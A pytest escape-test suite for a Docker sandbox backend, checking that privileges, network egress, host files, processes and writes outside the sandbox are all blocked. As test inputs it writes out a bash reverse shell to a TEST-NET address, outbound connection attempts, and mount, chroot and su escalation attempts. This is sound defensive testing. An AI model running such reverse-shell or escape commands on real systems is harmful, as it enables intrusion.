"""The escape suite against the Docker backend: each attempt must fail inside the sandbox and
leave the host and the other sandboxes unaffected."""

from __future__ import annotations

import socket
import uuid

import pytest
from ale_rock.backends.base import SandboxConfig

pytestmark = pytest.mark.docker

# TEST-NET-1/2 (RFC 5737): never real hosts, so a "successful" escape could not reach anyone.
OUTSIDE = "192.0.2.1"
CONNECT = (
    "import socket,sys\n"
    "for host in sys.argv[2:]:\n"
    "    try:\n"
    "        socket.create_connection((host, int(sys.argv[1])), timeout=3).close()\n"
    "        print('CONNECTED', host)\n"
    "    except OSError as e:\n"
    "        print('blocked', host, e)\n"
)


def _docker0_ip() -> str:
    """The host's address on Docker's default bridge (reachable from any bridged container)."""
    try:
        with open("/sys/class/net/docker0/address"):
            pass
    except OSError:
        return "172.17.0.1"
    import fcntl
    import struct

    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        packed = fcntl.ioctl(s.fileno(), 0x8915, struct.pack("256s", b"docker0"))  # SIOCGIFADDR
    return socket.inet_ntoa(packed[20:24])


def test_privileges_are_gone(backend, rocklet) -> None:
    r = rocklet(backend.start("priv1", SandboxConfig()))
    status = dict(
        line.split(":\t", 1) for line in r.sh("cat /proc/self/status").splitlines() if ":\t" in line
    )
    assert status["Uid"].split()[0] == "1000" and status["Gid"].split()[0] == "1000"
    assert (
        int(status["CapEff"], 16) == 0 and int(status["CapPrm"], 16) == 0 and int(status["CapBnd"], 16) == 0
    )
    assert status["NoNewPrivs"].strip() == "1"
    assert status["Seccomp"].strip() == "2"  # the engine's default seccomp filter is on
    assert r.info().uid == 1000
    for attempt in ("mount -t tmpfs none /mnt", "chroot / true", "su -c id root </dev/null"):
        res = r.exec(attempt, timeout_ms=10_000)
        assert res.exit_code != 0, attempt
    inspect = backend._api.inspect_container(backend._container_name("priv1"))["HostConfig"]
    assert inspect["Privileged"] is False and inspect["CapDrop"] == ["ALL"]
    assert inspect["NetworkMode"] == "none"


def test_no_network_egress_or_reverse_shell(backend, rocklet) -> None:
    r = rocklet(backend.start("net1", SandboxConfig()))
    assert r.sh("ls /sys/class/net").split() == ["lo"]
    out = r.exec(f'python3 -c "{CONNECT}" 80 {OUTSIDE} 198.51.100.1', timeout_ms=20_000)
    assert b"CONNECTED" not in out.stdout and out.stdout.count(b"blocked") == 2, out
    shell = r.exec(f"bash -c 'bash -i >& /dev/tcp/{OUTSIDE}/4444 0>&1'", timeout_ms=20_000)
    assert shell.exit_code != 0 and b"unreachable" in shell.stderr.lower(), shell


def test_host_loopback_and_bridge_listeners_unreachable(backend, rocklet) -> None:
    listener = socket.socket()
    listener.bind(("0.0.0.0", 0))  # every host address: loopback, docker0, the uplink
    listener.listen(8)
    listener.setblocking(False)
    port = listener.getsockname()[1]
    try:
        r = rocklet(backend.start("lo1", SandboxConfig()))
        targets = ["127.0.0.1", "host.docker.internal", _docker0_ip()]
        out = r.exec(f'python3 -c "{CONNECT}" {port} {" ".join(targets)}', timeout_ms=30_000)
        assert b"CONNECTED" not in out.stdout and out.stdout.count(b"blocked") == 3, out
        with pytest.raises(BlockingIOError):
            listener.accept()  # nothing ever arrived on the host side
    finally:
        listener.close()


def test_host_files_processes_and_other_sandboxes_invisible(backend, rocklet, tmp_path) -> None:
    secret = tmp_path / "host-secret"
    token = uuid.uuid4().hex
    secret.write_text(token)
    a = rocklet(backend.start("vis-a", SandboxConfig()))
    b = rocklet(backend.start("vis-b", SandboxConfig()))
    a.sh(f"echo {token} > /workspace/a-secret")
    assert b.exec(f"test -e {secret}").exit_code != 0
    assert b.exec("test -e /workspace/a-secret").exit_code != 0
    assert b.sh("ls /run/ale").split() == ["rocklet.sock"]  # only its own door
    found = b.sh("find / -xdev -name a-secret 2>/dev/null; true")
    assert found == ""
    # Its own pid namespace: a handful of processes, none of them the host's (this pytest).
    pids = b.sh("ls /proc | grep -c '^[0-9]'")
    assert int(pids) < 20
    assert "pytest" not in b.sh("cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' ' '; true")


def test_cannot_write_outside_the_sandbox(backend, rocklet) -> None:
    h = backend.start("wr1", SandboxConfig())
    r = rocklet(h)
    runtime_dir = backend._runtime.sys_path[0]
    for target in (f"{runtime_dir}/pwned", "/run/ale-conf/pwned", "/run/ale-conf/rocklet.json", "/etc/pwned"):
        res = r.exec(f"echo x > {target}")
        assert res.exit_code != 0, target
    host_src = backend._runtime.mounts[0][0]
    import os

    assert not os.path.exists(os.path.join(host_src, "pwned"))
    assert not (h.host_dir / "conf" / "pwned").exists()
    # The sandbox's own settings (env, egress token) are readable but not rewritable from inside.
    assert backend.settings_path("wr1").read_text().startswith("{")
